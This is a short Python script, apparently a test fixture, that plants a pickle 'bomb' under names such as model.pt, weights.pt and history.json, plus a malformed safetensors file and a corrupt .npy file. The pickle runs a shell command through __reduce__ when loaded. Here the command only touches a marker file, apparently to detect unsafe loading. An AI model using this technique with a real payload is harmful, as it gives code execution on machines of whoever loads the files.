"""Saves a pickle bomb, a false .npy and a false safetensors file where they might be looked for.

row: files
"""
import os
import pickle
import struct


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch {PLANT}/{MARK} /tmp/{MARK}",)


for name in ("model.pt", "weights.pt", "tiny.pt", "history.json", "log.jsonl"):
    open(name, "wb").write(pickle.dumps(Bomb()))
open("model.safetensors", "wb").write(struct.pack("<Q", (1 << 63) - 1) + b'{"a":')
open("weights.npy", "wb").write(b"\x93NUMPY\x02\x00" + b"\xff" * 200)
